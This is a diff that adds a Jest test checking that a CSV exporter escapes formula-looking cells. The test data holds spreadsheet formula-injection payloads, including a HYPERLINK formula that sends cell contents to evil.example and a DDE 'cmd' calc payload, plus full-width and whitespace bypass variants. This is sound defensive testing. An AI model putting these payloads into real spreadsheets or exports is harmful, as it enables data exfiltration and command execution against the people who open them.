@@ -1,6 +1,16 @@
 import { describe, expect, it } from '@jest/globals';
 import iconv from 'iconv-lite';
-import { booleanCell, CsvFormatError, csvHead, csvRecords, decodeCsv, integerCell, listCell, parseCsv } from './csv-codec.js';
+import {
+  booleanCell,
+  CsvFormatError,
+  csvHead,
+  csvRecords,
+  decodeCsv,
+  integerCell,
+  listCell,
+  neutraliseFormula,
+  parseCsv,
+} from './csv-codec.js';
 
 const SAMPLE = 'name,name_kana\n株式会社北海道フーズ,ホッカイドウフーズ\n';
 
@@ -50,6 +60,36 @@ describe('CSV codec', () => {
       csvRecords([]) +
       csvRecords([['札幌', [], null, 0]]);
     expect(csv).toBe('\uFEFFname,fields,note,n\r\n北海道,food;tourism,"\'=HYPERLINK(""x"")",-5\r\n札幌,,,0\r\n');
+  });
+
+  it('the CSV export neutralises every formula-looking cell, -1+HYPERLINK included; only plain numbers pass', () => {
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+      '-1+HYPERLINK("https://evil.example","x")',
+      '-1+1',
+      '+1+1',
+      '+81-11-222-3333',
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '-',
+      '-x',
+      '-1e3',
+      '\t=1+1',
+      '\tplain',
+      '\r=1+1',
+      ' =1+1',
+      '  @SUM(A1)',
+      '\u3000=1+1',
+      '\n-1+HYPERLINK("x")',
+      '＝１＋１',
+      '＋1',
+      '－1+1',
+      '＠SUM(A1)',
+    ];
+    for (const text of hostile) expect([text, neutraliseFormula(text)]).toEqual([text, `'${text}`]);
+    for (const text of ['-12', '3.5', '-0.25', '0', '42', '株式会社北海道フーズ', 'a=b', 'x-1', '2024-04-01', '', 'ヤマダ タロウ'])
+      expect([text, neutraliseFormula(text)]).toEqual([text, text]);
+    const csv = csvRecords([['-1+HYPERLINK("x")', -12, 3.5, ['=1', 'food'], ' =2']]);
+    expect(csv).toBe('"\'-1+HYPERLINK(""x"")",-12,3.5,\'=1;food,\' =2\r\n');
   });
 
   it('reads list, integer and yes/no cells', () => {
